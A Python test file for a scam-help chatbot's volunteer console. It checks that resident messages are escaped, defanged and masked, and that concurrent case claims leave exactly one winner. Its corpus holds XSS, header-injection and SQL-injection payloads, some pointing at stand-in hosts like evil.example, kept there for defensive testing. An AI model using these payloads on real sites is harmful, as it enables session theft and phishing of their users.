"""What residents paste stays inert in the console (an XSS corpus), and two volunteers
claiming one case at the same moment: exactly one gets it."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator
from html.parser import HTMLParser

import httpx
import pytest
from fastapi import FastAPI
from markupsafe import escape
from sqlalchemy import func, select

from bot import texts
from bot.console.access import CSRF_FIELD
from bot.console.defang import defang
from bot.conversation.intake import clean_text
from bot.helpdesk.cases import consent_answer, erase_requested
from bot.helpdesk.desk import DeskError
from bot.models import AuditEntry, Case, Message
from bot.tests.conftest import settings_for
from bot.tests.console_helpers import (
    HTML,
    add_user,
    case_of,
    console_client,
    hand_off,
    login,
    page_csrf,
    say,
    start,
)
from bot.tests.console_security_helpers import (
    IBAN,
    bare_cases,
    volunteer_named,
)
from bot.web import create_app
from common.masking import mask
from tools.rasa_processes import RasaServers

# --- XSS corpus -----------------------------------------------------------------------------
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">klik hier</a>',
    "javascript:alert(document.cookie)",
    '<iframe src="https://evil.example/"></iframe>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{background:expression(alert(1))}</style>",
    '<img src="x" style="x:expr/**/ession(alert(1))">',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3C;svg&#x3E;",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)',
    "</textarea></div></li></ol><script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "{{7*7}} ${7*7} <%= 7*7 %> {% for x in range(3) %}x{% endfor %}",
    "[klik hier](javascript:alert(1)) en [bank](https://ing-verify.example.com/login)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/x.css>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example/"><input name=password><button>Inloggen</button></form>',
    "<a href=//evil.example/x>zonder schema</a> en //evil.example/y",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E en \\u003cscript\\u003e",
    "Uw pakket ligt klaar: https://ing-verify.example.com/login?x=1&y=<b>2</b>",
    "Ga naar hxxps://ing-verify[.]example[.]com of hxxp://postnl-track.example.org/t?id=5",
    "HTTPS://WWW.ING-VERIFY.EXAMPLE.COM/LOGIN en http://192.168.10.20:8080/admin",
    "Zie https://ing．verify．com/login en https://ïng.nl/inloggen",
    "Bijlage factuur\u202efdp.exe van http://evil.example/f",
    "https://in\u200bg-ver\u200bify.exa\u200bmple.com/lo\u200bgin en ing.n\u200bl",
    "Regel 1\r\nSet-Cookie: scamhelp_console=evil\r\n\r\n<script>alert(1)</script>",
    "nul\x00<script>alert(1)</script>",
    "vbscript:msgbox(1) en mailto:oplichter@evil.example",
    "'; DROP TABLE cases; --",
    f"Maak over naar {IBAN} of NL91 ABNA 0417 1643 00 aub",
    "Bel me op 06-12345678, +31 6 12345678 of 020-7654321",
    "Mail naar jan.jansen@example.nl of <jan@evil.example>",
    "<img src=x onerror=alert(1)>" * 130,
    "A" * 3900 + " https://evil.example/lang",
]
# In a list view: what a resident sent, and what the volunteer sees of it.
MASKED = {
    IBAN: "NL91 **** 00",
    "NL91 ABNA 0417 1643 00": "NL91 **** 00",
    "06-12345678": "06** *** *78",
    "+31 6 12345678": "+31** *** *78",
    "020-7654321": "02** *** *21",
    "jan.jansen@example.nl": "j***@example[.]nl",
}
OWN_SCRIPT = '<script src="/assets/console/console.js" defer></script>'
FORBIDDEN_TAGS = frozenset(
    "iframe frame frameset img svg math object embed applet style base audio video source".split()
)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_inert(html: str, where: str) -> None:
    """Nothing a resident wrote became markup, a script or a link."""
    lower = html.lower()
    assert lower.count("<script") == 1 and OWN_SCRIPT in html, where
    for raw in ("<iframe", "<img", "<svg", "<object", "<math", "<base", '<form action="http'):
        assert raw not in lower, (where, raw)
    for raw in ("javascript:", 'href="http', "href='http", "http://", "https://", "data:text"):
        assert raw not in lower, (where, raw)
    # An event handler inside a real tag (escaped text cannot hold a '<').
    assert not re.search(r"<[^>]*\bon[a-z]+\s*=", lower), where
    parser = _Tags()
    parser.feed(html)
    assert parser.tags, where
    for tag, attributes in parser.tags:
        assert tag not in FORBIDDEN_TAGS, (where, tag)
        if tag == "script":
            assert dict(attributes).get("src") == "/assets/console/console.js", where
        if tag == "link":
            assert dict(attributes).get("href") == "/assets/console/console.css", where
        if tag == "meta":
            assert "http-equiv" not in dict(attributes), where
        for name, value in attributes:
            value = (value or "").strip().lower()
            assert not name.startswith("on") and name not in ("style", "srcdoc"), (where, tag)
            if name in ("href", "src", "action", "formaction"):
                assert value.startswith(("/", "#")) and not value.startswith("//"), (where, value)
            assert "javascript:" not in value and "data:" not in value, (where, tag, name)


def assert_no_full_personal_numbers(html: str, where: str) -> None:
    for full in (IBAN, "NL91 ABNA 0417 1643 00", "12345678", "7654321", "jan.jansen@"):
        assert full not in html, (where, full)


def test_the_corpus_reaches_the_case() -> None:
    """None of it is taken for an erasure request or a consent answer, or refused."""
    assert len(HOSTILE) >= 25
    for text in HOSTILE:
        assert not erase_requested(text) and consent_answer(text) is None, text
        assert 0 < len(text) <= 4000, text[:40]


@pytest.fixture
async def roomy_app(database_url: str, rasa: RasaServers) -> AsyncIterator[FastAPI]:
    """The app with a rate limit that lets a resident paste the whole corpus in a minute."""
    settings = settings_for(database_url, rasa.rasa_url, rate_limit_per_minute=1000)
    application = create_app(settings)
    async with application.router.lifespan_context(application):
        yield application


async def test_an_xss_corpus_pasted_by_residents_stays_inert_in_the_console(
    roomy_app: FastAPI,
) -> None:
    app = roomy_app
    await add_user(app, "anna")
    async with console_client(app) as resident, console_client(app) as volunteer:
        await login(volunteer, "anna")
        # With consent: the whole conversation on the case page.
        shared = await start(resident)
        await hand_off(resident, shared, consent=True)
        # Without consent: each message in turn is the queue's preview.
        private = await start(resident)
        await hand_off(resident, private, consent=False)
        pages = 0
        for text in HOSTILE:
            await say(resident, shared, text=text)
            await say(resident, private, text=text)
            queue = await volunteer.get("/console/queue", headers=HTML)
            assert queue.status_code == 200
            where = f"queue after {text[:40]!r}"
            assert_inert(OWN_SCRIPT + queue.text, where)  # a fragment of the queue page
            assert_no_full_personal_numbers(queue.text, where)
            pages += 1
            preview = defang(mask(clean_text(text)))
            if len(preview) <= 140:  # not shortened: masked, defanged and escaped
                assert str(escape(preview)) in queue.text, where
            for sent, shown in MASKED.items():
                if sent in text:
                    assert shown in queue.text, (where, shown)
        shared_case = await case_of(app, shared)
        private_case = await case_of(app, private)

        queue_page = await volunteer.get("/console", headers=HTML)
        case_page = await volunteer.get(f"/console/cases/{shared_case.id}", headers=HTML)
        fragment = await volunteer.get(f"/console/cases/{shared_case.id}/messages", headers=HTML)
        private_page = await volunteer.get(f"/console/cases/{private_case.id}", headers=HTML)
        for name, response in (
            ("queue", queue_page),
            ("case page", case_page),
            ("messages", fragment),
            ("case page without consent", private_page),
        ):
            assert response.status_code == 200, name
            html = response.text
            if name == "messages":  # a fragment: the page around it has the script
                html = OWN_SCRIPT + html
            assert_inert(html, name)
            pages += 1
            csp = response.headers.get("content-security-policy", "")
            assert "script-src 'self'" in csp and "unsafe-inline" not in csp, name
            assert response.headers.get("x-content-type-options") == "nosniff"
        assert_no_full_personal_numbers(queue_page.text, "queue page")

        # Every input is on the case pages, escaped and defanged (so the checks above saw it).
        for text in HOSTILE:
            shown = str(escape(defang(clean_text(text))))
            assert shown in case_page.text and shown in fragment.text, text[:60]
            assert shown in private_page.text, text[:60]
        for defanged in (
            "hxxps://ing-verify[.]example[.]com/login?x=1",
            "hxxp://postnl-track[.]example[.]org/t?id=5",
            "HxxPS://WWW[.]ING-VERIFY[.]EXAMPLE[.]COM/LOGIN",
            "hxxp://192[.]168[.]10[.]20:8080/admin",
            "hxxps://ing[.]verify[.]com/login",
            "hxxps://ïng[.]nl/inloggen",
            "hxxps://ing-verify[.]example[.]com/login",
            "javascript[:]alert(1)",
            "jansen[at]example[.]nl",
            "{{7*7}}",
        ):
            assert defanged in case_page.text, defanged

        # Claimed: the live fragment stays inert too.
        csrf = await page_csrf(volunteer, f"/console/cases/{shared_case.id}")
        await volunteer.post(f"/console/cases/{shared_case.id}/claim", data={CSRF_FIELD: csrf})
        claimed = await volunteer.get(f"/console/cases/{shared_case.id}/messages", headers=HTML)
        assert_inert(OWN_SCRIPT + claimed.text, "messages after claiming")
        pages += 1

        async with console_client(app) as stranger:
            form = await stranger.get("/console/login")
        assert "script-src 'self'" in form.headers.get("content-security-policy", "")
    print(f"hostile inputs: {len(HOSTILE)} (pasted by 2 residents, {pages} console pages checked)")


# --- two volunteers, one case -----------------------------------------------------------------
async def test_two_volunteers_claiming_the_same_case_at_once_exactly_one_gets_it(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    await add_user(app, "anna")
    await add_user(app, "bram")
    cid = await start(client)
    await hand_off(client, cid)
    real = await case_of(app, cid)
    anna, bram = await volunteer_named(app, "anna"), await volunteer_named(app, "bram")
    desk = app.state.desk
    for round_, case_id in enumerate([real.id, *await bare_cases(app, 5)]):
        first, second = (anna, bram) if round_ % 2 == 0 else (bram, anna)
        results = await asyncio.gather(
            desk.claim(first, case_id), desk.claim(second, case_id), return_exceptions=True
        )
        refused = [r for r in results if isinstance(r, DeskError)]
        assert len(refused) == 1 and refused[0].status == 409, results
        assert sum(r is None for r in results) == 1, results
        winner = (first, second)[results.index(None)]
        async with app.state.gateway.sessions() as session:
            case = await session.get(Case, case_id)
            assert case is not None and case.status == "claimed"
            assert case.volunteer_id == winner.id
            claims = await session.scalar(
                select(func.count(AuditEntry.id)).where(
                    AuditEntry.case_id == case_id, AuditEntry.action == "claim"
                )
            )
            assert claims == 1
    async with app.state.gateway.sessions() as session:
        said = (
            await session.execute(select(Message.text).where(Message.conversation_id == cid))
        ).scalars()
        joined = {texts.VOLUNTEER_JOINED.format(name=name) for name in ("Anna", "Bram")}
        assert len([text for text in said if text in joined]) == 1  # told once


async def test_two_volunteers_claiming_over_http_at_once(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    await add_user(app, "anna")
    await add_user(app, "bram")
    cid = await start(client)
    await hand_off(client, cid)
    case_ids = [(await case_of(app, cid)).id, *await bare_cases(app, 2)]
    async with console_client(app) as anna, console_client(app) as bram:
        await login(anna, "anna")
        await login(bram, "bram")
        tokens = {anna: await page_csrf(anna), bram: await page_csrf(bram)}
        wins = {"anna": 0, "bram": 0}
        for case_id in case_ids:
            url = f"/console/cases/{case_id}/claim"
            responses = await asyncio.gather(
                anna.post(url, data={CSRF_FIELD: tokens[anna]}),
                bram.post(url, data={CSRF_FIELD: tokens[bram]}),
            )
            assert [r.status_code for r in responses] == [303, 303]
            places = [r.headers["location"] for r in responses]
            won = [p == f"/console/cases/{case_id}" for p in places]
            assert sorted(won) == [False, True], places
            # The other one is back in the queue, told why (no text in the URL).
            lost = (anna, bram)[won.index(False)]
            assert places[won.index(False)] == "/console"
            assert "al opgepakt" in (await lost.get("/console")).text
            winner = ("anna", "bram")[won.index(True)]
            wins[winner] += 1
            async with app.state.gateway.sessions() as session:
                case = await session.get(Case, case_id)
                assert case is not None and case.status == "claimed"
                assert case.volunteer_id == (await volunteer_named(app, winner)).id
            # The winner holds it; the other cannot open it any more.
            holder, other = (anna, bram) if winner == "anna" else (bram, anna)
            assert (await holder.get(f"/console/cases/{case_id}", headers=HTML)).status_code == 200
            assert (await other.get(f"/console/cases/{case_id}", headers=HTML)).status_code == 403
        assert sum(wins.values()) == len(case_ids)
